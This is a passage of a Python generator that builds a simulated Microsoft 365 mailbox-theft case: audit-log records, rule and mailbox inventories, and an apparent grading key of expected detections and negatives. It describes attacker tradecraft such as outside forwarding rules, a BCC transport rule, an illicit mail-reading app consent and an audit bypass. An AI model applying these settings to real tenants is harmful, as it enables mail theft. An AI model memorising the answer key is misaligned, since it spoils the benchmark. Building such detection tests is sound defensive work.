    THEFT.update(dict(searches=searches, owa_binds=owa_binds, t_consent=t_consent, graph_times=graph_times, t_del=t_del,
                      n_items=n_items, n_bytes=n_bytes, deleted=len(gone), ta=ta, ts=ts, te=te, td=td,
                      folders={p: {"items": len(v), "bytes": sum(s for _, s in v)} for p, v in box.items()}))


def baseline_m365():
    """The users' own reading: Outlook on the web binds of a few messages, and li.na's new
    laptop's Outlook syncing her folders from the office (a hard negative)."""
    for d in range(4):
        for u in LEGIT + [VICTIM]:
            for _ in range(rt.randint(1, 3)):
                t = start + timedelta(days=d, hours=rt.randint(1, 9), minutes=rt.randint(0, 59), seconds=rt.randint(0, 59))
                if u == VICTIM and t >= t0:
                    continue
                items = [(mid_of(rt.choice(["partner.example.net", "univ-a.example.edu"])) if rt.random() < 0.5 else mid_of(), item_size(24000))
                         for _ in range(rt.randint(1, 4))]
                accessed(t, u, rt.choice(OFFICE), [("\\Inbox", items)], session=gid())
    t = datetime(2026, 3, 3, 1, 48, 9, tzinfo=UTC)
    sync_folders = ["\\Inbox", "\\Sent Items", "\\Deleted Items", "\\Archive", "\\Newsletters", "\\Cruise 2025"]
    for k in range(3):
        accessed(t + timedelta(minutes=7 * k, seconds=rt.randint(0, 40)), "li.na", OFFICE[0],
                 [(p, []) for p in sync_folders[2 * k:2 * k + 2]], access="Sync",
                 client="Client=MSExchangeRPC", session=THEFT.setdefault("sync_session", gid()))
    THEFT["sync_t"] = t
    # zhou.min places a charter dispute's custodians on hold and searches them (a legal hold).
    tc = datetime(2026, 3, 2, 6, 20, 31, tzinfo=UTC)
    case = gid()
    q = "charter OR \"MV Haiyang\" OR demurrage"
    custodians = [upn("sun.hao"), upn("chen.jie")]
    discovery(tc, "CaseAdded", "zhou.min", OFFICE[2], {"ObjectId": "Charter dispute 2026-02", "ObjectType": "ComplianceCase", "Case": case})
    discovery(tc + timedelta(minutes=3, seconds=12), "HoldCreated", "zhou.min", OFFICE[2], {"ObjectId": "Charter dispute hold", "ObjectType": "CaseHoldRule",
              "Case": case, "Query": q, "ExchangeLocations": custodians})
    discovery(tc + timedelta(minutes=5, seconds=40), "SearchCreated", "zhou.min", OFFICE[2], {"ObjectId": "Charter dispute - custodians",
              "ObjectType": "ComplianceSearch", "Case": case, "Query": q, "ExchangeLocations": custodians})
    discovery(tc + timedelta(minutes=5, seconds=58), "SearchStarted", "zhou.min", OFFICE[2], {"ObjectId": "Charter dispute - custodians",
              "ObjectType": "ComplianceSearch", "Case": case, "Query": q, "ExchangeLocations": custodians})
    THEFT["legal_hold"] = tc


THEFT = {}
theft_m365()
baseline_m365()
recs.sort(key=lambda r: r[0], reverse=True)  # Purview lists the newest first
out = io.StringIO()
w = csv.writer(out, lineterminator="\n")
w.writerow(["RecordId", "CreationDate", "RecordType", "Operation", "UserId", "AuditData", "AssociatedAdminUnits", "AssociatedAdminUnitsNames"])
ual_lines = {}
for i, (t, op, user, d) in enumerate(recs):
    w.writerow([d["Id"], f"{t.month}/{t.day}/{t.year} {t.strftime('%I').lstrip('0')}:{t:%M:%S %p}", d["RecordType"], op, user,
                json.dumps(d, separators=(",", ":")), "", ""])
    ual_lines.setdefault((op, user, t), i + 2)
rel = "m365/purview-unified-audit-log.csv"
write(rel, out.getvalue())


def lines_of(pred):
    return sorted(l for (op, u, t), l in ual_lines.items() if pred(op, u, t))


item("auth.compromised_account", rel,
     lines_of(lambda op, u, t: u == upn(VICTIM) and t0 <= t <= t_in and op.startswith("UserLog")),
     "7 failed sign-ins then a success for wang.fang from the attacker", "initial_access", users=[upn(VICTIM)], ips=[CLOUD_ATTACKER])
item("auth.compromised_account", rel,
     lines_of(lambda op, u, t: u == upn(ADMIN) and t == t_adm),
     "it.admin signs in from the address that just guessed wang.fang's password", "initial_access",
     users=[upn(ADMIN)], ips=[CLOUD_ATTACKER])
item("persistence.mailbox_rule", rel, lines_of(lambda op, u, t: op == "New-InboxRule" and u == upn(VICTIM)),
     "inbox rule forwarding invoice/payment mail outside and hiding it in RSS Feeds", "persistence", users=[upn(VICTIM)])
item("persistence.mailbox_forwarding", rel, lines_of(lambda op, u, t: op == "Set-Mailbox" and u == upn(VICTIM)),
     "mailbox forwarding of wang.fang to an outside address, no copy kept", "persistence", users=[upn(VICTIM)])
item("persistence.transport_rule", rel, lines_of(lambda op, u, t: op == "New-TransportRule" and u == upn(ADMIN)),
     "transport rule blind-copying all internal senders' mail outside", "persistence", users=[upn(ADMIN)])
item("auth.rule_after_login", rel,
     lines_of(lambda op, u, t: (u == upn(VICTIM) and t in (t_in,)) or (u == upn(VICTIM) and op in ("New-InboxRule", "Set-Mailbox"))),
     "wang.fang: sign-in from a new network, then rule and forwarding within minutes", "initial_access", users=[upn(VICTIM)])
item("auth.rule_after_login", rel,
     lines_of(lambda op, u, t: u == upn(ADMIN) and (t == t_adm or op == "New-TransportRule")),
     "it.admin: sign-in from a new network, then a transport rule", "initial_access", users=[upn(ADMIN)])

# ---------------------------------------------------------------- truth of the theft episode
id_line = {d["Id"]: i + 2 for i, (_, _, _, d) in enumerate(recs)}


def lines_where(pred):
    return sorted(id_line[d["Id"]] for t, op, u, d in recs if pred(op, u, t, d))


def graph(op, u, t, d):
    return op == "MailItemsAccessed" and d.get("ClientAppId") == APP["app_id"]


def theft_item(rule, pred, what, phase, users, ips=(CLOUD_ATTACKER,), accessed=None, **more):
    e = {"rule": rule, "file": rel, "lines": lines_where(pred), "what": what, "phase": phase,
         "users": [upn(u) for u in users], "ips": list(ips)}
    if accessed:
        e["accessed"] = accessed
    e.update(more)
    return e


T = THEFT
theft_truth = {
    "story": ("After taking wang.fang's mailbox (14:06 UTC, 4 Mar) the attacker searches it in Outlook on the web for "
              "invoices, bank accounts and payments and opens a dozen hits, consents for her to an app, 'Mail Backup Sync', "
              "with Mail.Read, and through Microsoft Graph the app reads every message of Inbox, Sent Items and Finance "
              f"({T['n_items']} items) in 2-minute batches; then it hard-deletes 14 invoice threads from her Inbox. With the "
              "phished it.admin it exempts that account from mailbox auditing, gives it FullAccess to the director zhao.lei's "
              "mailbox, switches IMAP on for wang.fang, and runs a content search of every mailbox for payments, exports it "
              "and downloads the export. Negatives: li.na's new laptop's Outlook syncing her folders from the office, the "
              "users' own Outlook on the web reading, and zhou.min's legal hold and custodian search for a charter dispute."),
    "attacker_sources": [CLOUD_ATTACKER],
    "expected": [
        theft_item("exfil.mailbox_download", graph,
                   f"'Mail Backup Sync' reads all {T['n_items']} messages of wang.fang's Inbox, Sent Items and Finance through Graph "
                   f"(MailItemsAccessed Bind, {len(T['graph_times'])} records, {T['n_bytes']} bytes by SizeInBytes)",
                   "exfiltration", [VICTIM],
                   accessed={"mailbox": upn(VICTIM), "how": "m365", "messages": T["n_items"], "bytes": T["n_bytes"],
                             "folders": list(T["folders"]), "app": APP["name"], "app_id": APP["app_id"]},
                   folders=T["folders"]),
        theft_item("exfil.mailbox_search", lambda op, u, t, d: op == "SearchQueryInitiatedExchange" and u == upn(VICTIM),
                   "wang.fang's mailbox searched in Outlook on the web for 'invoice', 'bank account', 'payment due' "
                   "(then 12 of the hits opened: MailItemsAccessed Bind from the same SessionId)",
                   "exfiltration", [VICTIM], accessed={"mailbox": upn(VICTIM), "how": "search"},
                   related_lines=lines_where(lambda op, u, t, d: op == "MailItemsAccessed" and t in T["owa_binds"])),
        theft_item("exfil.mailbox_search", lambda op, u, t, d: op in ("SearchCreated", "SearchStarted") and u == upn(ADMIN),
                   "it.admin creates and starts a content search 'Q1 payments' of every mailbox (no case)",
                   "exfiltration", [ADMIN], accessed={"how": "search", "mailbox": "All"}),
        theft_item("exfil.mailbox_export", lambda op, u, t, d: op in ("SearchExported", "SearchExportDownloaded") and u == upn(ADMIN),
                   "the search's results exported (2417 items, 1873260417 bytes, a PST per mailbox) and downloaded",
                   "exfiltration", [ADMIN], accessed={"how": "export", "mailbox": "All", "messages": 2417, "bytes": 1873260417}),
        theft_item("persistence.mailbox_delegation", lambda op, u, t, d: op == "Add-MailboxPermission",
                   "it.admin given FullAccess to the director zhao.lei's mailbox (AutoMapping off)", "persistence",
                   [ADMIN, DIRECTOR]),
        theft_item("persistence.oauth_consent", lambda op, u, t, d: op == "Consent to application.",
                   "wang.fang consents for herself to 'Mail Backup Sync': Mail.Read Mail.ReadBasic offline_access User.Read "
                   "(the record has no client address; the sign-in before it was from the attacker)",
                   "persistence", [VICTIM], ips=[]),
        theft_item("exfil.protocol_enabled", lambda op, u, t, d: op == "Set-CASMailbox",
                   "IMAP switched on for wang.fang by it.admin", "persistence", [ADMIN, VICTIM]),
        theft_item("tamper.audit_disabled", lambda op, u, t, d: op == "Set-MailboxAuditBypassAssociation",
                   "it.admin exempts itself from mailbox auditing (AuditBypassEnabled True): its reading of zhao.lei's "
                   "mailbox leaves no MailItemsAccessed", "cleanup", [ADMIN]),
        theft_item("cleanup.mail_deletion", lambda op, u, t, d: op == "HardDelete",
                   f"{T['deleted']} invoice threads hard-deleted from wang.fang's Inbox", "cleanup", [VICTIM],
                   accessed={"mailbox": upn(VICTIM), "how": "m365", "deleted": T["deleted"], "folders": ["\\Inbox"]}),
    ],
    "negatives": [
        {"rule": "exfil.mailbox_download", "max_severity": None, "file": rel, "users": [upn("li.na")], "ips": [OFFICE[0]],
         "lines": lines_where(lambda op, u, t, d: op == "MailItemsAccessed" and d.get("SessionId") == T["sync_session"]),
         "why": "li.na's new laptop's Outlook syncs her folders from the office network (MailAccessType Sync): no finding may name her"},
        {"rule": "exfil.mailbox_search", "max_severity": None, "file": rel, "users": [upn("zhou.min")], "ips": [OFFICE[2]],
         "lines": lines_where(lambda op, u, t, d: u == upn("zhou.min") and d.get("Workload") == "SecurityComplianceCenter"),
         "why": "zhou.min's legal hold: a case, a hold and a custodian search of two mailboxes, nothing exported: no finding may name her"},
        {"rule": "exfil.mailbox_download", "max_severity": None, "file": rel, "users": [upn(u) for u in LEGIT],
         "lines": lines_where(lambda op, u, t, d: op == "MailItemsAccessed" and u in [upn(x) for x in LEGIT]
                              and d.get("SessionId") != T["sync_session"]),
         "why": "the users' own Outlook on the web reading: one to four messages at a time"},
    ],
    "sources": {
        "schema": "https://learn.microsoft.com/en-us/office/office-365-management-api/office-365-management-activity-api-schema",
        "mailitemsaccessed": "https://learn.microsoft.com/en-us/purview/audit-log-investigate-accounts",
        "search_events": "https://learn.microsoft.com/en-us/purview/audit-premium (SearchQueryInitiatedExchange); QueryText/QuerySource as read by github.com/12Knocksinna/Office365itpros FindCrucialSendAndSearchRecords.PS1",
        "ediscovery": "https://learn.microsoft.com/en-us/purview/ediscovery-search-for-activities-in-the-audit-log",
        "consent": "https://learn.microsoft.com/en-us/defender-office-365/detect-and-remediate-illicit-consent-grants",
    },
}

# ---------------------------------------------------------------- inventories (exported 2026-03-05)
def csv_text(header, rows, ps_type=None):
    out = io.StringIO()
    if ps_type:
        out.write(f"#TYPE {ps_type}\n")
    w = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\n")
    w.writerow(header)
    for r in rows:
        w.writerow(r)
    return out.getvalue()


ib_head = ["MailboxOwnerId", "Name", "Enabled", "Priority", "RuleIdentity", "StopProcessingRules", "MoveToFolder", "RedirectTo",
           "ForwardTo", "ForwardAsAttachmentTo", "MarkAsRead", "DeleteMessage", "From", "SubjectContainsWords",
           "SubjectOrBodyContainsWords", "Description"]
ib = [
    [upn("li.na"), "Newsletters", "True", "1", "4718364019236954113", "False", "Newsletters", "", "", "", "False", "False",
     "news@marine-journal.example.com", "", "", "If the message:\n\tthe message was received from 'news@marine-journal.example.com'\nTake the following actions:\n\tmove the message to folder 'Newsletters'\n"],
    [upn("chen.jie"), "Ship reports to deputy", "True", "1", "4718364019236954114", "False", "", "", f"\"Sun Hao\" [SMTP:sun.hao@{ORG}]", "", "False", "False",
     "", "ship report", "", "If the message:\n\tincludes 'ship report' in the subject\nTake the following actions:\n\tforward the message to 'Sun Hao'\n"],
    [upn(VICTIM), ".", "True", "1", "4718364019236954115", "True", "RSS Feeds", "", "\"fang.wang.office@mailbox-relay.example.net\" [SMTP:fang.wang.office@mailbox-relay.example.net]", "",
     "True", "False", "", "", "invoice;payment;bank", "If the message:\n\tincludes 'invoice' or 'payment' or 'bank' in the subject or body\nTake the following actions:\n\tmove the message to folder 'RSS Feeds'\n\tand forward the message to 'fang.wang.office@mailbox-relay.example.net'\n\tand mark the message as read\n"],
]
rel = "m365/inbox-rules.csv"
write(rel, csv_text(ib_head, ib, "Microsoft.Exchange.Management.Common.InboxRule"))


def line_of(rel, marker):
    with open(os.path.join(OUT, rel), encoding="utf-8") as f:
        return [i + 1 for i, l in enumerate(f.read().split("\n")) if l.startswith(marker)]


item("persistence.mailbox_rule", rel, line_of(rel, f'"{upn(VICTIM)}"'), "the same rule, still present at export", "persistence", users=[upn(VICTIM)])

mb_head = ["DisplayName", "UserPrincipalName", "PrimarySmtpAddress", "ForwardingSmtpAddress", "ForwardingAddress", "DeliverToMailboxAndForward", "WhenChangedUTC"]
mb = [["Li Na", upn("li.na"), upn("li.na"), "", "", "False", "2/11/2026 3:14:07 AM"],
      ["Chen Jie", upn("chen.jie"), upn("chen.jie"), "", "", "False", "1/20/2026 9:02:44 AM"],
      ["Zhou Min", upn("zhou.min"), upn("zhou.min"), "", "", "False", "12/1/2025 1:00:00 AM"],
      ["Sun Hao", upn("sun.hao"), upn("sun.hao"), f"smtp:li.na@{ORG}", "", "True", "3/3/2026 1:05:00 AM"],
      ["Wang Fang", upn(VICTIM), upn(VICTIM), "smtp:fang.wang.office@mailbox-relay.example.net", "", "False", "3/4/2026 2:15:03 PM"],
      ["IT Admin", upn(ADMIN), upn(ADMIN), "", "", "False", "6/30/2025 8:00:00 AM"]]
rel = "m365/mailboxes.csv"
write(rel, csv_text(mb_head, mb, "Deserialized.Microsoft.Exchange.Data.Directory.Management.Mailbox"))
item("persistence.mailbox_forwarding", rel, line_of(rel, '"Wang Fang"'), "the forwarding, still set at export", "persistence", users=[upn(VICTIM)])

tr_head = ["Name", "State", "Mode", "Priority", "BlindCopyTo", "RedirectMessageTo", "CopyTo", "CreatedBy", "WhenChanged", "Description"]
tr = [["External disclaimer", "Enabled", "Enforce", "0", "", "", "", "Zhou Min", "3/3/2026 2:30:00 AM",
       "If the message:\n\tIs sent to 'Outside the organization'\nTake the following actions:\n\tAppend disclaimer 'This message is from Oceanlab.'\n"],
      ["Compliance copy", "Enabled", "Enforce", "1", "archive-7731@mailbox-relay.example.net", "", "", "IT Admin", "3/4/2026 2:52:17 PM",
       "If the message:\n\tIs sent by a member of 'Inside the organization'\nTake the following actions:\n\tBlind carbon copy (Bcc) the message to 'archive-7731@mailbox-relay.example.net'\n"]]
rel = "m365/transport-rules.csv"
write(rel, csv_text(tr_head, tr))
item("persistence.transport_rule", rel, line_of(rel, '"Compliance copy"'), "the BCC rule, still enabled at export", "persistence", users=[])

truth["legit_users"] = [upn(u) for u in LEGIT]
truth["story"] = ("Oceanlab's on-premises Exchange 2016 server (exch01) was exploited with ProxyLogon on "
                  "2026-03-03 from 192.0.2.66: forged back-end requests, an OAB virtual directory turned into a "
                  "JScript web shell at aspnet_client/system_web/Xs9t2k.aspx, then hours of shell use. On "
                  "2026-03-04 the attacker guessed wang.fang's Microsoft 365 password from 203.0.113.50, added an "
                  "inbox rule that forwards invoice/payment/bank mail outside and hides it in RSS Feeds, set her "
                  "mailbox to forward everything to the same outside address, and with the phished it.admin login "
                  "added a transport rule that blind-copies all internal mail outside. li.na, chen.jie, zhou.min "
                  "and sun.hao are ordinary users with ordinary rules, forwarding and a disclaimer.")
truth["theft"] = theft_truth
with open(os.path.join(OUT, "truth.json"), "w") as f:
    json.dump(truth, f, indent=2)
    f.write("\n")
